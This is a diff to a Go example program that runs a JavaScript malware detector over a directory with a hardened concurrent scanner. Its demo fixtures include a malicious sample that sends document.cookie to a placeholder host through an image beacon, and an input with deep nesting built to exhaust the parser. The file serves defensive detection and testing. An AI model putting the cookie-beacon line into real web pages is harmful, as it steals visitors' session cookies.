@@ -1,16 +1,21 @@
 // Scan-directory: train (or load) a persisted model, then scan every .js
-// file under a directory and report verdicts — the bulk-detection workflow
-// the paper's scalability analysis (Table VIII) targets.
+// file under a directory through the hardened scan engine and report
+// verdicts — the bulk-detection workflow the paper's scalability analysis
+// (Table VIII) targets, hardened for untrusted input: a concurrent worker
+// pool, per-file deadlines, size/token/recursion guards, panic isolation,
+// and graceful degradation to a lexical heuristic.
 //
 // Usage:
 //
-//	go run ./examples/scan-directory [-model path] [-dir path]
+//	go run ./examples/scan-directory [-model path] [-dir path] [-workers N] [-timeout D]
 //
 // Without -dir, the example writes a small demo directory with a benign
-// and a malicious file and scans it.
+// file, a malicious file, and a pathological file (nesting beyond the
+// parser's recursion budget) and scans it.
 package main
 
 import (
+	"context"
 	"flag"
 	"fmt"
 	"log"
@@ -26,13 +31,15 @@ import (
 func main() {
 	model := flag.String("model", "", "persisted model path (trained on the fly when empty)")
 	dir := flag.String("dir", "", "directory to scan (demo directory when empty)")
+	workers := flag.Int("workers", 0, "concurrent scan workers (0 = GOMAXPROCS)")
+	timeout := flag.Duration("timeout", 10*time.Second, "per-file classification deadline")
 	flag.Parse()
-	if err := run(*model, *dir); err != nil {
+	if err := run(*model, *dir, *workers, *timeout); err != nil {
 		log.Fatal(err)
 	}
 }
 
-func run(modelPath, dir string) error {
+func run(modelPath, dir string, workers int, timeout time.Duration) error {
 	det, err := loadOrTrain(modelPath)
 	if err != nil {
 		return err
@@ -47,41 +54,47 @@ func run(modelPath, dir string) error {
 		dir = demo
 	}
 
-	var scanned, flagged int
-	start := time.Now()
-	err = filepath.Walk(dir, func(path string, info os.FileInfo, err error) error {
-		if err != nil || info.IsDir() || !strings.HasSuffix(path, ".js") {
-			return err
-		}
-		data, err := os.ReadFile(path)
-		if err != nil {
-			return err
-		}
-		scanned++
-		verdict, err := det.Detect(string(data))
-		if err != nil {
-			fmt.Printf("%-40s error: %v\n", path, err)
-			return nil
-		}
-		if verdict {
-			flagged++
-			fmt.Printf("%-40s MALICIOUS\n", path)
-		} else {
-			fmt.Printf("%-40s benign\n", path)
-		}
-		return nil
+	scanner := jsrevealer.NewScanner(det, jsrevealer.ScanConfig{
+		Workers: workers,
+		Timeout: timeout,
 	})
+	results, stats, err := scanner.ScanDir(context.Background(), dir)
 	if err != nil {
 		return err
 	}
-	elapsed := time.Since(start)
-	perFile := time.Duration(0)
-	if scanned > 0 {
-		perFile = elapsed / time.Duration(scanned)
+
+	// Per-file verdicts on stdout; every degraded/failed file is aggregated
+	// with its structured reason rather than aborting the walk.
+	var problems []jsrevealer.ScanResult
+	for _, r := range results {
+		switch r.Verdict {
+		case jsrevealer.VerdictDegraded:
+			label := "benign"
+			if r.Malicious {
+				label = "MALICIOUS"
+			}
+			fmt.Printf("%-40s DEGRADED (fallback verdict: %s)\n", r.Path, label)
+			problems = append(problems, r)
+		case jsrevealer.VerdictFailed:
+			fmt.Printf("%-40s FAILED\n", r.Path)
+			problems = append(problems, r)
+		case jsrevealer.VerdictMalicious:
+			fmt.Printf("%-40s MALICIOUS\n", r.Path)
+		default:
+			fmt.Printf("%-40s benign\n", r.Path)
+		}
 	}
-	fmt.Printf("\nscanned %d files in %s (%.1f ms/file), %d flagged\n",
-		scanned, elapsed.Round(time.Millisecond),
-		float64(perFile.Microseconds())/1000, flagged)
+
+	fmt.Printf("\nscanned %d files in %s: %d flagged, %d degraded, %d failed; latency p50 %s p99 %s\n",
+		stats.Scanned, stats.Wall.Round(time.Millisecond),
+		stats.Flagged, stats.Degraded, stats.Failed,
+		stats.P50.Round(time.Millisecond), stats.P99.Round(time.Millisecond))
+	if len(problems) > 0 {
+		fmt.Println("\nfiles the full pipeline could not classify:")
+		for _, r := range problems {
+			fmt.Printf("  %s: %v\n", r.Path, r.Err)
+		}
+	}
 	return nil
 }
 
@@ -166,6 +179,9 @@ runner();
 var beacon = new Image();
 beacon.src = "http://127.0.0.1/ping?x=" + escape(document.cookie);
 `,
+		// Nesting beyond the parser's recursion budget: exercises the
+		// engine's graceful degradation instead of crashing the scan.
+		"hostile.js": "var bomb = " + strings.Repeat("(", 30000) + "1" + strings.Repeat(")", 30000) + ";",
 	}
 	for name, content := range files {
 		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o644); err != nil {
